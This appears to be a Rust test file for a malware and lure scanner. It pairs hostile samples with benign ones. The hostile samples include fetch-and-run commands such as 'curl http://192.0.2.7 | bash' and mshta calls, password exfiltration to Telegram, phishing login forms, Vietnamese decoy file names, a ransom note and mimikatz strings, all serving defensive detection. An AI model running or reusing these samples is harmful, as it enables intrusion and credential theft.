//! Cases for pages, shortcuts, archives, lures and programs.

use khien_inspect::FileType::{
    DesktopEntry, Html, Iso, Lnk, Pe, PowerShell, SearchConnector, SettingContent, Svg, Text, UrlShortcut, Xml, Zip,
};

use crate::{Case, case};

/// What every shortcut of Windows begins with, in letters of Latin-1.
const LNK: &str = "\u{c}L\0\0\0\u{1}\u{14}\u{2}\0\0\0\0\0";

/// `text` as UTF-16, a letter for each byte.
fn wide(text: &str) -> String {
    text.chars().filter(|letter| *letter != crate::MARK).flat_map(|letter| [letter, '\0']).collect()
}

pub(crate) fn cases() -> Vec<Case> {
    [pages(), links(), shortcuts(), archives(), lures(), programs()].into_iter().flatten().collect()
}

fn pages() -> Vec<Case> {
    vec![
        case(
            "page_makes_file_on_the_pc",
            Html,
            "<script>b = new Bl¦ob([at¦ob('TVqQ¦AAMAAAAEAAAA')]); a.href = URL.createObject¦URL(b)</script>",
            "<script>b = new Blob([atob('aGVsbG8=')]); a.href = URL.createObjectURL(b)</script>",
        ),
        case(
            "picture_with_script",
            Svg,
            "<svg><scr¦ipt>window.loca¦tion = at¦ob('a')</script></svg>",
            "<svg><script type=\"application/json\">{}</script></svg>",
        ),
        case(
            "link_holds_program",
            Html,
            "<a href=\"data:applica¦tion/octet-stream;base¦64,AAAA\">",
            "<a href=\"data:image/png;base64,AAAA\">",
        ),
        case(
            "page_has_reader_paste_command",
            Html,
            "<p>Win + R, Ctrl + V</p><script>navigator.clip¦board.writeText('power¦shell -w khong')</script>",
            "<p>Win + R</p><script>navigator.clipboard.writeText('Mã hồ sơ 123')</script>",
        ),
        case(
            "page_sends_password_to_chat",
            Html,
            "<input type=\"pass¦word\"><script>fetch('https://api.tele¦gram.org/bot1')</script>",
            "<a href=\"https://telegram.org\"><input type=\"password\">",
        ),
        case(
            "login_page_of_authority_copied",
            Html,
            "<title>Bộ Tư pháp</title><form action=\"https://vidu.invalid/a.p¦hp\"><input type=\"pass¦word\">",
            "<title>Bộ Tư pháp</title><form action=\"/dang-nhap\"><input type=\"password\">",
        ),
    ]
}

fn links() -> Vec<Case> {
    vec![
        case(
            "link_starts_search_on_far_folder",
            Html,
            r"<a href='search¦-ms:query=a&crumb=loca¦tion:\\192.0.2.7\a'>",
            "<a href='https://vidu.vn/search?query=a'>",
        ),
        case(
            "link_abuses_diagnostic_tool",
            Html,
            "location = 'ms-m¦sdt:/id PCW¦Diagnostic /param IT_BrowseFor¦File=khong'",
            "ms-msdt: is a protocol of Windows",
        ),
        case(
            "document_part_fetches_template",
            Xml,
            "<Relationship Type=\"http://a.org/relationships/attached¦Template\" Target=\"http://192.0.2.7/a\" \
             TargetMode=\"Exter¦nal\"/>",
            "<Relationship Type=\"http://a.org/relationships/hyperlink\" Target=\"http://vidu.vn\" TargetMode=\"External\"/>",
        ),
    ]
}

fn shortcuts() -> Vec<Case> {
    vec![
        case(
            "shortcut_starts_powershell",
            Lnk,
            format!("{LNK}{}", wide("power¦shell.exe -w hid¦den khong")),
            format!("{LNK}{}", wide("C:\\Windows\\notepad.exe")),
        ),
        case(
            "shortcut_starts_script_host",
            Lnk,
            format!("{LNK}{}", wide("msh¦ta.exe http://192.0.2.7")),
            format!("{LNK}{}", wide("excel.exe bao-cao.xlsx")),
        ),
        case(
            "shortcut_runs_command_as_document",
            Lnk,
            format!("{LNK}{}", wide("cm¦d.exe /c st¦art a.pdf shell32.dll")),
            format!("{LNK}{}", wide("winword.exe bao-cao.docx shell32.dll")),
        ),
        case(
            "web_shortcut_starts_far_program",
            UrlShortcut,
            "[Internet¦Shortcut]\r\nURL=file://192.0.2.7/a/b.ex¦e\r\n",
            "[InternetShortcut]\r\nURL=https://moj.gov.vn/\r\n",
        ),
        case(
            "web_shortcut_icon_gives_login_away",
            UrlShortcut,
            "[Internet¦Shortcut]\r\nURL=https://vidu.vn\r\nIcon¦File=\\\\192.0.2.7\\a.ico\r\n",
            "[InternetShortcut]\r\nURL=https://vidu.vn\r\nIconFile=C:\\a.ico\r\n",
        ),
        case(
            "library_leads_to_far_folder",
            SearchConnector,
            "<library¦Description><simpleLocation><url>https¦://192.0.2.7/a</url></simpleLocation></libraryDescription>",
            "<libraryDescription><simpleLocation><url>knownfolder:{a}</url></simpleLocation></libraryDescription>",
        ),
        case(
            "settings_file_starts_program",
            SettingContent,
            "<Deep¦Link>%windir%\\system32\\cm¦d.exe /c khong</DeepLink>",
            "<DeepLink>%windir%\\system32\\control.exe</DeepLink>",
        ),
        case(
            "desktop_entry_starts_hidden_command",
            DesktopEntry,
            "[Desktop Entry]\nExec=sh -c \"cu¦rl http://192.0.2.7 | ba¦sh\"\n",
            "[Desktop Entry]\nExec=libreoffice --writer\n",
        ),
    ]
}

fn archives() -> Vec<Case> {
    vec![
        case(
            "archive_has_program_named_like_document",
            Zip,
            "PK hop-dong.pd¦f.ex¦e\0",
            "PK hop-dong.pdf\0ghi-chu.exe\0",
        ),
        case(
            "archive_opens_program_beside_document",
            Zip,
            "PK bao-cao.pdf¦ /bao-cao.pdf .cm¦d",
            "PK bao-cao.pdf/bao-cao.pdf",
        ),
        case("archive_writes_outside_its_folder", Zip, "PK ../../../e¦tc/khong", "PK ../tai-lieu/khong"),
        case("disk_image_has_shortcut_and_library", Iso, "HOADON.L¦NK;1 AN.D¦LL;1", "HOADON.PDF;1 AN.TXT;1"),
        case(
            "archive_note_gives_password_for_program",
            Text,
            "Mật khẩu giải nén: 123. Hãy tắ¦t phần mềm diệt virus trước khi chạy cra¦ck.",
            "Mật khẩu: đổi 90 ngày một lần. Không tắt chương trình diệt virus.",
        ),
    ]
}

fn lures() -> Vec<Case> {
    let named = |name: &'static str| Case { name, ..case("program_named_like_official_letter", Pe, "MZ", "MZ") };
    vec![
        named("Quyết định số 12.pdf.exe"),
        named("HOA DON dien tu.js"),
        named("giay-moi_hop.scr"),
        case(
            "archive_holds_program_named_like_official_letter",
            Zip,
            "PK Giấy mời¦ họp ngày 12.ex¦e\0",
            "PK Giấy mời họp ngày 12.pdf\0",
        ),
        case(
            "archive_holds_program_named_like_official_letter",
            Zip,
            "PK hoa_d¦on-dien-tu.vb¦s\0",
            "PK chuong-trinh.exe\0",
        ),
        case(
            "script_opens_official_letter_as_decoy",
            PowerShell,
            "Start-Pro¦cess \"$env:TEMP\\cong-v¦an-12.pdf\"; rund¦ll32 khong",
            "Start-Process \"ke-hoach-2026.xlsx\"",
        ),
        case(
            "document_asks_to_enable_macros",
            Xml,
            "<w:t>Văn bản được bảo vệ. Hãy bấm vào Enable¦ Content để xem.</w:t>",
            "<w:t>Văn bản được bảo vệ bằng chữ ký số.</w:t>",
        ),
        case(
            "page_of_letter_asks_for_password",
            Html,
            "<p>Đăng nhập để xem hóa đơn</p><form action=\"https://vidu.invalid\"><input name=\"email\"><input \
             type=\"pass¦word\">",
            "<p>Đăng nhập để xem hóa đơn</p><form action=\"/dang-nhap\"><input name=\"email\"><input type=\"password\">",
        ),
        case(
            "note_of_ransomware",
            Text,
            "All your files have been encr¦ypted. Send bit¦coin, use the Tor Brow¦ser, and we decr¦ypt them.",
            "How to protect your files from ransomware, and why nobody should pay bitcoin.",
        ),
    ]
}

fn programs() -> Vec<Case> {
    vec![
        case("program_is_packed_with_upx", Pe, "MZ UP¦X0 UP¦X1 UP¦X!", "MZ .text .data"),
        case("program_made_of_autoit_script", Pe, "MZ AU3!¦EA06", "MZ AutoIt"),
        case(
            "program_made_of_python_script",
            Pe,
            "MZ _MEI¦PASS MEI\u{c}\u{b}\u{a}\u{b}\u{e}",
            "MZ python311.dll _MEIPASS",
        ),
        case(
            "program_is_tool_of_intruders",
            Pe,
            "MZ seku¦rlsa::logon¦passwords lsa¦dump::sam privi¦lege::debug",
            "MZ privilege::debug is a command",
        ),
    ]
}
